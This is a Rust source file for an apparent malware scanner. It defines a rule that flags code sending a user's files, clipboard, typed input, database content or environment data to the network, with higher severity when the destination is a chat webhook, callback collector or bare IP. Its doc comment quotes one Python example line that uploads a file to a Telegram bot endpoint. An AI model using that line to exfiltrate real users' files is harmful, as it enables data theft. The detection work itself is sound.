//! # Files or input of the user are sent away
//!
//! ## What it finds
//! What a file, the keyboard, the clipboard or a database holds reaches the network: at install or import time, or, whenever
//! it runs, when the destination is a chat webhook, callback collector, tunnel or bare IP address that the code names.
//!
//! ## Why it matters
//! Stealers send archives of documents, source code and application data. A package that sends files for its user takes the
//! destination from its user.
//!
//! ## Example
//! ```python
//! requests.post("https://api.telegram.org/bot123:abc/sendDocument", files={"document": open(path, "rb")})
//! ```
//!
//! ## What to do
//! Look at which files are sent, and where to.
//!
//! ## When it is wrong
//! Uploaders that run when imported; there should be none.
use foretaste_engine::prelude::*;

use crate::indicators::{self, Destination};

declare_rule! {
    FilesToNetwork,
    id: "files-to-network",
    title: "sends the user's files or input away",
    group: Chain,
    severity: High,
    confidence: Medium,
    needs: [Code],
    tags: ["T1005", "T1041", "T1567"],
    since: "0.1.0",
}

impl ChainRule for FilesToNetwork {
    fn judge(&self, chain: &Chain<'_>, _scene: &Scene<'_>) -> Option<Finding> {
        let (source, sink) = (chain.source()?, chain.sink()?);
        let personal = matches!(
            source.capability,
            Capability::FileRead
                | Capability::FileList
                | Capability::UserInput
                | Capability::Clipboard
                | Capability::Database
                | Capability::HostInfo
                | Capability::UserInfo
                | Capability::HostLocation
                | Capability::EnvironmentRead
        );
        if !personal
            || !sink.capability.is_network_sink()
            || sink.capability == Capability::NetworkDns
        {
            return None;
        }
        let context = chain.context();
        let destination = sink
            .constant
            .as_deref()
            .and_then(indicators::classify)
            .or_else(|| named_in(chain))
            .filter(|d| d.collects());
        let linked = chain.flow.link != FlowLink::Scope;
        let early =
            context <= ExecutionContext::Import && source.capability == Capability::FileRead;
        let (severity, confidence) = match (destination, linked) {
            (Some(Destination::BareIp), true) => (Severity::High, Confidence::Medium),
            (Some(_), true) => (Severity::Critical, Confidence::High),
            (Some(Destination::BareIp), false) => return None,
            (Some(_), false) => (Severity::High, Confidence::Medium),
            (None, true) if early => (Severity::High, Confidence::Medium),
            _ => return None,
        };
        let what = match source.capability {
            Capability::UserInput => "what the user types",
            Capability::Clipboard => "the clipboard",
            Capability::Database => "database content",
            Capability::HostInfo | Capability::UserInfo | Capability::HostLocation => {
                "facts about the machine"
            }
            Capability::EnvironmentRead => "environment variables",
            _ => "files",
        };
        let to = destination.map_or("over the network", Destination::phrase);
        let to = if destination.is_some() {
            format!("to {to}")
        } else {
            to.to_owned()
        };
        let mut finding = self
            .finding(format!("sends {what} {to} {}", context.phrase()))
            .severity(severity)
            .confidence(confidence)
            .context(context);
        finding.evidence = chain.evidence(|step| step.api.to_string());
        Some(finding)
    }
}

/// A collecting destination that stands as a constant in the function of the sink, or at the top of its file.
fn named_in(chain: &Chain<'_>) -> Option<Destination> {
    let facts = chain.file.facts;
    facts
        .literals
        .iter()
        .filter(|l| matches!(l.kind, LiteralKind::Url | LiteralKind::Token))
        .filter(|l| l.function == chain.flow.function || l.function == 0)
        .filter_map(|l| indicators::classify(&l.value))
        .find(|d| matches!(d, Destination::Webhook | Destination::Callback))
}
